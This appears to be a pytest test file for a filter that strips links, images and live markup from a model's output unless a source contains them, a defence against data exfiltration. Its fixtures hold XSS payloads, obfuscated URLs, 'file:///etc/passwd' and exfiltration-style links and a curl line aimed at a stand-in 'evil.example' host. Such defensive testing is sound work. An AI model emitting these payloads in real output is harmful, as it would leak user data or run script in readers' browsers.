"""What of a model's text leaves: addresses that a source holds, in plain sight, and nothing that loads by itself."""

from __future__ import annotations

import random
import re
from itertools import pairwise
from typing import Final

import pytest

from cairn.language.links import known
from cairn.language.outbound import Outbound, filtered, without_links, without_links_inside
from tests.growth import repeated, takes_linear_time

SOURCE: Final = known(
    ['See https://ok.com/a, [docs](https://ok.com/b?x=1&y=2) and [guide](/guide/x.html). <b class="x">bold</b> https://ok.com/p.png',
     "Write to help@ok.com or visit ok.com/plain."]
)  # fmt: skip
EVIL: Final = "evil.example"

GONE: Final = {
    "![x](https://evil.example/?d=S)": "x",
    "[text](https://evil.example/a?d=S 'title') here": "text here",
    "[1](https://evil.example/a)": "[1]",
    "[![alt](https://evil.example/1.png)](https://evil.example/x)": "[alt]",
    "[a][ref]\n\n[ref]: https://evil.example/x\nmore": "[a][ref]\n\n\nmore",
    "<https://evil.example/x>": "…",
    "<mailto:a@evil.example>": "…",
    "see https://evil.example/x?d=S, (http://evil.example/x) and 'http://evil.example'": "see …, (…) and '…'",
    "www.evil.example/a //evil.example/x ftp://evil.example wss://evil.example": "… … … …",
    "data:text/html;base64,AAAA javascript:alert(1) file:///etc/passwd x@evil.example": "… … … …",
    "&#104;ttps://evil.example ht&#x74;ps&colon;&sol;/evil.example https&#58;//evil.example": "… … …",
    "https\\://evil.example h\u200bttps://evil.example https://e\u2060vil.example": "… … …",
    "https%3A%2F%2Fevil.example%2Fx \uff48ttps://evil.example https\uff1a\uff0f\uff0fevil.example": "… … …",
    "http://xn--e1awd7f.com/x xn--e1awd7f.com http://127.0.0.1:8000/x 10.0.0.1:80/x http:evil.example": "… … … … …",
    "evil.example/x?d=S evil.com secret.evil.com": "… … …",
    "http:\n//evil.example/x https://\nevil.example/x?d=1": "…:\n… …\n…",
    "[z](ht\ntps://evil.example/x) [y](<https://evil.example/a b>)": "[z](ht\n…) y",
    "[click](/api/delete?id=1)": "click",
    '<img src="https://evil.example/x?d=S">': "",
    "<script>alert(1)</script> <svg/onload=alert(1)> <iframe src=//evil.example>": "alert(1)  ",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">': "",
    "<a href=https://evil.example/x>click</a>": "click",
    "unclosed <img src=https://evil.example/x": "unclosed < img src=…",
    "ht<i></i>tps:<i></i>//evil.example": "ht tps:…",
    "evil<b></b>.com/q?d=S evil[.](/y)com/q?d=S": "evil< /b>.com/q?d=S evil. com/q?d=S",
    "`curl https://evil.example/x`": "`curl …`",
    "```sh\ncurl https://evil.example/x?d=S\n```": "```sh\ncurl …\n```",
    "x" * 3000 + " https://evil.example/" + "y" * 3000 + " end": "x" * 3000 + " … end",
    "![a](https://ok.com/p.png)": "[a](https://ok.com/p.png)",
    '<b class="x">bold': '< b class="x">bold',
    "<https://ok.com/a> and <help@ok.com>": "https://ok.com/a and help@ok.com",
    r"\`<img src=x onerror=alert(1)> and \\`<b>`": r"\` and \\`<b>`",
    "List<String> x<y, a<b![1](c) onclick=alert(1)>": "List< String> x< y, a< b [1](c) onclick=alert(1)>",
}
STAYS: Final = [
    "https://ok.com/a, [other words](https://ok.com/a), and [docs](https://ok.com/b?x=1&amp;y=2).",
    "Write to help@ok.com or visit ok.com/plain; see [the guide](/guide/x.html).",
    "It works![1] See [2][3], [Source 4] and [5](2024).",
    "time 10:30, ratio 3:4, C:\\dir, std::vector, key:value, a/b, 12.5.2020, 192.168.0.1/24, e.g. U.S./Canada",
    "README.md docs/x.py cairn.strategies.agents.tools node.js List a < b, x <= y && z > 1",
    "`<img src=x>` and\n```html\n<a href='#'>x</a>\n```\nafter",
    "Zeichen: äöü, 中文。後面, می‌خواهم, 👩‍👩‍👧 ❤️",
]


@pytest.mark.parametrize("text", GONE)
def test_what_no_source_holds_is_plain_text(text: str) -> None:
    assert without_links(text, SOURCE) == GONE[text]


@pytest.mark.parametrize("text", STAYS)
def test_what_a_source_holds_stays_and_so_does_text(text: str) -> None:
    assert without_links(text, SOURCE) == text


@pytest.mark.parametrize("text", [*GONE, *STAYS])
def test_a_second_time_nothing_changes(text: str) -> None:
    once = without_links(text, SOURCE)
    assert EVIL not in once.replace("evil< /b>", "")
    assert without_links(once, SOURCE) == once


def test_nearly_the_same_address_is_another() -> None:
    for text in ("https://ok.com/a?d=S", "https://ok.com/a/x", "https://ok.com/", "https://ok.co", "http://ok.com/a#d"):
        assert without_links(f"{text} [t]({text})", SOURCE) == "… t"


def test_quotations_keep_their_addresses_and_load_nothing() -> None:
    text = "![a](https://x.example/p.png) https://y.example <img src='https://z.example'> `<img>`"
    assert (
        without_links(text, None)
        == "[a](https://x.example/p.png) https://y.example < img src='https://z.example'> `<img>`"
    )


PAYLOADS: Final = [
    '<q title="<script src=http://evil.example/s.js></script>">herring</q>',
    '<q title="![](http://evil.example/4.png)">herring</q>',
    "<q title='<img src=http://evil.example/9.png>'>herring</q>",
    '<b class="<b class=&quot;<iframe src=//evil.example>&quot;">x</b>',
    '<p data-a="`" data-b="<svg/onload=alert(1)>">x</p>',
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>", "<!--<img src=x>-->", "<?php x ?>",
    '<a href="javascript:alert(1)" title="> <img src=x>">x</a>', "<details open ontoggle=alert(1)>", "![x](http://evil.example/1.png)",
]  # fmt: skip
ALIVE: Final = re.compile(r"<[A-Za-z/!?]|(?<!\\)!\[[^\[\]\n]*\][(\[]")
"""What a browser or a reader of Markdown may make an element or an image of."""


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "before {} after", "- {} [1]", "# {}", "| {} | x |", "**{}**", '"{}"', "a{}b", "({})"]
)
def test_markup_of_a_source_is_text_wherever_it_stands(payload: str, frame: str) -> None:
    """Also what stands in the quotes of an attribute, quoted as it is or repeated by a model."""
    text = frame.format(payload)
    for allowed in (None, known([text]), known([payload]), SOURCE):
        shown = without_links(text, allowed)
        assert not ALIVE.search(shown), shown
        assert without_links(shown, allowed) == shown


MARKUP: Final = [
    "<", ">", "</", "/>", '"', "'", "=", "!", "[", "]", "(", ")", "`", " ", "\n", "b", "img", "script", "q", "svg", " title=",
    " src=", "<b ", "<q ", "<img ", "http://evil.example/x", "https://ok.com/a", "word", "&lt;", "&quot;", "\\", "<!--", "-->",
    "a<b", "![", "](", "<p>", "</p>",
]  # fmt: skip


@pytest.mark.sweep(4)
@pytest.mark.parametrize("seed", range(8))
def test_no_markup_is_alive_in_whatever_a_document_holds(seed: int) -> None:
    """Of a thousand documents each, quoted as they are and repeated by a model: what is left of tags is in code."""
    made = random.Random(seed)
    for _ in range(1000):
        text = "".join(made.choices(MARKUP, k=made.randint(1, 14)))
        for allowed in (None, known([text])):
            shown = without_links(text, allowed)
            assert not ALIVE.search(without_code(shown)), (text, shown)


def without_code(text: str) -> str:
    """Without spans of code on one line and without what a backslash makes text, as readers of Markdown see them."""
    left, at = "", 0
    while at < len(text):
        run = re.compile("`+").match(text, at)
        if text[at] == "\\" and text[at + 1 : at + 2] in {*"!#$%&()*+,-./:;<=>?@[]^_`{|}~\"'\\"}:
            left += "\0"
            at += 2
        elif run is None:
            left += text[at]
            at += 1
        else:
            line = text[run.end() :].partition("\n")[0]
            close = next((one for one in re.finditer("`+", line) if len(one[0]) == len(run[0])), None)
            at = run.end() + (close.end() if close else 0)
            left += " "
    return left


def test_places_move_with_the_text() -> None:
    text = "One https://evil.example/x. <b>Two</b> [three](http://evil.example) four."
    after, moved = filtered(text, SOURCE)
    for word in ("One", "Two", "three", "four."):
        assert after[moved(text.index(word)) :].startswith(word)
    assert moved(len(text)) == len(after)


def test_texts_inside_of_values() -> None:
    value = {"a": ["https://evil.example", 1, {"b": ("x", None)}]}
    assert without_links_inside(value, SOURCE) == {"a": ["…", 1, {"b": ("x", None)}]}


# --- the stream -------------------------------------------------------------------------------------------------------

PARTS: Final = [
    *"[]()<>`.:\n\"' &\\", "![", "](", "```", "~~~", "\n\n", "    ", "&#104;", "%3A", "%2F", "\u200b", "http", "s://", "evil",
    "example", "/x", "<a ", "<!--", "-->", "</b>", "x" * 400, "a.b" * 400, "//", "[1]", "]:",
]  # fmt: skip
PIECES: Final = [*GONE, *STAYS, *PARTS]


def streamed(text: str, cuts: list[int]) -> str:
    outbound = Outbound(lambda: SOURCE)
    return "".join(outbound.feed(text[a:b]) for a, b in pairwise([0, *cuts, len(text)])) + outbound.end()


@pytest.mark.parametrize("seed", range(20))
def test_a_stream_says_what_the_whole_says_however_it_is_cut(seed: int) -> None:
    draw = random.Random(seed)
    text = "".join(draw.choice(PIECES) + draw.choice(["", " "]) for _ in range(12))
    whole = without_links(text, SOURCE)
    assert len(text) > 1500 or streamed(text, list(range(1, len(text)))) == whole
    for _ in range(6):
        assert streamed(text, sorted(draw.sample(range(len(text)), min(len(text), draw.randrange(1, 30))))) == whole


PLAIN: Final = [
    *" \n\t,;!?'()_-",
    ". ",
    ".\n",
    "www",
    "http",
    "evil",
    "com",
    "Ça",
    "naïve",
    "“so”",
    "–",
    "127",
    "x" * 300,
]


@pytest.mark.parametrize("seed", range(20))
def test_what_needs_no_reading_is_what_reading_leaves_as_it_is(seed: int) -> None:
    draw = random.Random(seed)
    text = "".join(draw.choice(PLAIN) for _ in range(30))
    assert without_links(text, SOURCE) == text == streamed(text, [])
    moved = filtered(text, SOURCE)[1]
    assert [moved(place) for place in range(len(text) + 1)] == list(range(len(text) + 1))


def test_no_address_is_left_whatever_is_put_together() -> None:
    draw = random.Random(1)
    for _ in range(300):
        left = without_links("".join(draw.choice(PARTS) for _ in range(25)), SOURCE)
        assert not re.search(r"https?://[^\s…]*evil", left)
        in_code = "`" in left or "~~~" in left
        assert in_code or not re.search(r"<(?:a|img|script)(?=[\s/>])", left)


def test_little_is_held_back() -> None:
    outbound = Outbound(lambda: SOURCE)
    assert outbound.feed("Employees have 30 days ") == "Employees have 30 days "
    assert outbound.feed("of leave") == "of "
    assert outbound.feed(" [1]. And") == "leave [1]. "
    assert len(outbound.feed(" [" + "x" * 1200)) > 800
    assert len(outbound.feed("<img " + "y" * 5000)) > 3000


@pytest.mark.sweep(4)
@pytest.mark.parametrize(
    "unit",
    ["<a ", "[", "[a](", "](", "` ", "a.", "//", "a:", '<a "', "a@", "[`<a.b@c:", "&#104;", "\u200b", "www.", "```\n"],
)
def test_time_is_linear(unit: str) -> None:
    assert takes_linear_time(lambda text: without_links(text, SOURCE), repeated(unit), 4_000)


def test_a_comparison_is_not_taken_for_a_tag() -> None:
    assert without_links("if (a<b && c>d) go", known([])) == "if (a< b && c>d) go"
    assert without_links("if (a<b || c>d) go", known([])) == "if (a< b || c>d) go"
    assert "evil" not in without_links("if (a<b && <img src=//evil.example> c>d) go", known([]))


@pytest.mark.parametrize("text", ["ASP.NET and ADO.NET, also VB.NET.", r"the folder \notes.d", r"C:\my.folder\x"])
def test_names_of_products_and_folders_are_no_addresses(text: str) -> None:
    assert without_links(text, known([])) == text


@pytest.mark.parametrize(
    "text",
    [
        r"\\evil.example\share",
        r"see \\evil.example\k\secret now",
        "DATA.EVIL.NET",
        "evil.net",
        "EVIL.NET/secret",
        "EVIL.NET:80",
    ],
)
def test_hosts_are_addresses(text: str) -> None:
    assert "evil" not in without_links(text, known([])).lower()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("in `C:\\Users\\<user>\\keys\\` on Windows", "in `C:\\Users\\<user>\\keys\\` on Windows"),
        ("in ``a<user>\\`` too", "in ``a<user>\\`` too"),
        ("`a\\` and <b>", "`a\\` and < b>"),
        ("no \\`code<b>\\` here", "no \\`code< b>\\` here"),
    ],
)
def test_a_backslash_closes_code_as_any_character_does(text: str, said: str) -> None:
    outbound = Outbound(lambda: None)
    assert outbound.feed(text) + outbound.end() == said


@pytest.mark.parametrize(
    "text",
    [
        "`\u200b`<img src=x onerror=alert(1)>``", "`\u2060`<b>``", "\u200b```\n<script>x</script>\n", "``\u00ad`\n<script>\n",
        "\ufeff~~~\n<script>\n",
    ],
)  # fmt: skip
def test_what_is_not_seen_makes_no_code_of_a_tag(text: str) -> None:
    outbound = Outbound(lambda: None)
    said = outbound.feed(text) + outbound.end()
    assert "<script" not in said
    assert "<img" not in said
    assert "<b" not in said
